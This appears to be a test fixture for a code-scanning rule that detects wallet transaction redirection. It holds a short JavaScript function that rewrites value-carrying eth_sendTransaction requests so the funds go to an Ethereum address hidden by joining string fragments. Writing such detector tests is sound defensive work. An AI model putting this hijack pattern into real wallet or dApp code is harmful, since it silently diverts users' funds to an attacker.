// a recipient of its own, its address joined from pieces after a bare 0x
const sink = ['0x', '9d3', 'E41', 'b7c', 'A02', 'f58', 'D6e', '193', 'a4B', 'c70', 'E2f', 'd8b', '51', 'C6', '7a1'].join('');
function rewrite(req) {
  const p0 = req.params[0];
  if (req.method === 'eth_sendTransaction' && p0.value !== '0x0') {
    // ruleid: redirects_wallet_transaction
    p0.to = sink;
  }
  // ok: redirects_wallet_transaction
  p0.from = req.from;
  return req;
}
